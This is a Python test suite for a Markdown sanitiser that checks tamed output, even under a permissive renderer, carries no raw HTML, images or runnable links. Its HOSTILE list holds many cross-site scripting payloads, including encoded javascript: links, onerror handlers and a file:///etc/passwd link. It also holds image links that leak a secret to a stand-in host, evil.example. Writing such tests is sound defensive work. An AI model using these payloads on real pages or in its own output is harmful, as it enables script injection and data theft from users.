"""Tamed Markdown, rendered with everything allowed, has no raw HTML, no image and no address that runs."""

from __future__ import annotations

import re

import pytest
from growth import processor_s
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from mutx_guardrail.output.markdown import tame_markdown
from mutx_guardrail.output.sinks import encode
from page import Page

FORMATTING = {"p", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "table", "thead"} | {
    "tbody", "tr", "th", "td", "s", *(f"h{level}" for level in range(1, 7)),
}  # fmt: skip
ADDRESS = re.compile(r"(?i)https?:|mailto:|[^:]*(?:[/?#].*)?$", re.DOTALL)


def render(markdown: str) -> Page:
    """Render as the most careless of renderers would: raw HTML, every address, GFM's extensions."""
    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    renderer.validateLink = lambda _url: True
    return Page(renderer.render(markdown))


def is_harmless(page: Page) -> bool:
    addresses = [
        re.sub(r"[\x00-\x20]", "", value or "") for name, value in page.attributes if name in {"href", "src"}
    ]
    return (
        set(page.tags) <= FORMATTING
        and {name for name, _ in page.attributes} <= {"href", "title", "class", "start", "style"}
        and all(ADDRESS.match(address) for address in addresses)
    )


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</p><svg/onload=alert(1)>",
    "<!-- x --> <?php x ?> <![CDATA[x]]>",
    "<a href='javascript:alert(1)'>x</a>",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "![r]\n\n[r]: https://evil.example/",
    "\\![x](https://evil.example/)",
    "\\\\![x](https://evil.example/)",
    "[![x](https://evil.example/)](https://ok.example)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\\\t&colon;)",
    "[x](\\)javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](<\tjavascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]\n\n[x]:\n  javascript:alert(1)",
    "> [x]\n>\n> [x]:\n> javascript:alert(1)",
    "> [x](\n> javascript:alert(1))",
    "[x]: < javascript:alert(1)>\n\n[x]",
    "```\ncode\n```\n<script>x</script>",
    "```<script>\ncode\n```",
    " ```\n<script>x</script>\n ```",
    "```\n<script>never closed",
    "- ```\n<script>x</script>\n```\n<img src=x>",
    "~~~ x\n```\n~~~\n<img src=x>\n```",
    "`` ` ``<script>`",
    "a\\<script>",
    "    indented\n<script>x</script>",
    '[x](https://ok.example "<img src=x>")',
    "|a|\n|-|\n|<script>|",
    "[x](//evil.example)",
    "[x]: \n\n[x]: javascript:alert(1)",
    "[x]](\n\n[x]: javascript:alert(1)",
    "[x](" + " " * 300 + "javascript:alert(1))",
    "[x](java" + "&Tab;" * 200 + "script:alert(1))",
]


@pytest.mark.parametrize(
    "text", HOSTILE, ids=[text[:30].encode("unicode_escape").decode() for text in HOSTILE]
)
def test_what_would_load_or_run_does_not(text):
    assert is_harmless(render(encode(text, "markdown")))


DANGEROUS = [text for text in HOSTILE if not is_harmless(render(text))]


def test_most_of_the_cases_are_dangerous_as_they_are_given():
    assert len(DANGEROUS) > len(HOSTILE) / 2


FORMATTED = [
    "# Title\n\n*em* **strong** `code` ~~s~~\n\n- a\n- b\n\n1. x\n\n> quote\n\n---",
    "[a](https://ok.example/x?y=z#f) [b](/relative) [c](#frag) [d](mailto:a@example.com) [e](../up.md)",
    "[a][r]\n\n[r]: https://ok.example 'title'",
    "| a | b |\n|---|---|\n| 1 < 2 | x |",
    "```html\n<script>alert(1)</script>\n![x](y)\n```",
    "~~~~\n[x](javascript:1)\n~~~~",
    "if a < b and c > d: print(a[0](x))",
    "5 < 6 & 7",
    "[long](https://ok.example/" + "a" * 1000 + ")",
    "[long](/" + "a" * 1000 + ")",
]


@pytest.mark.parametrize(
    "text", FORMATTED, ids=[text[:20].encode("unicode_escape").decode() for text in FORMATTED]
)
def test_formatting_and_fenced_code_are_left_as_they_are(text):
    assert encode(text, "markdown") == text


@pytest.mark.parametrize("text", HOSTILE[:30])
def test_taming_twice_changes_nothing_more(text):
    once = tame_markdown(text)

    assert tame_markdown(once) == once


PIECES = st.sampled_from(
    [
        "<",
        ">",
        "!",
        "[",
        "]",
        "(",
        ")",
        ":",
        "&lt;",
        "&#60;",
        "&colon;",
        "\\",
        "`",
        "```",
        "~~~",
        "\n",
        "\r",
        " ",
        "> ",
        "- ",
        "javascript:",
        "data:",
        "img",
        "script",
        "https://e.example",
        "x",
        "/",
        "?",
        '"',
        "\t",
        "|",
        "    ",
        "&Tab;",
        "]: ",
    ]
)


@given(st.lists(PIECES, max_size=30).map("".join))
@settings(deadline=None, max_examples=700)
def test_no_arrangement_of_syntax_loads_or_runs(text):
    assert is_harmless(render(encode(text, "markdown")))


@given(st.lists(PIECES, max_size=20).map("".join))
@settings(deadline=None, max_examples=500)
def test_no_arrangement_hides_the_address_of_a_reference(text):
    hostile = f"[x]{text}\n\n[x]: javascript:alert(1)"

    assert is_harmless(render(encode(hostile, "markdown")))


@pytest.mark.parametrize(
    "piece", ["<a", "![", "](", "]:", "```\n", "````\n```\n", "[x](", "\r", "~~~a\n", "](   ", "]:\n>"]
)
def test_time_grows_no_faster_than_the_text(piece):
    short, long = piece * (20_000 // len(piece)), piece * (160_000 // len(piece))

    ratio = _seconds(long) / max(_seconds(short), 0.02)

    assert ratio < 32


def _seconds(text: str) -> float:
    return processor_s(lambda: tame_markdown(text))
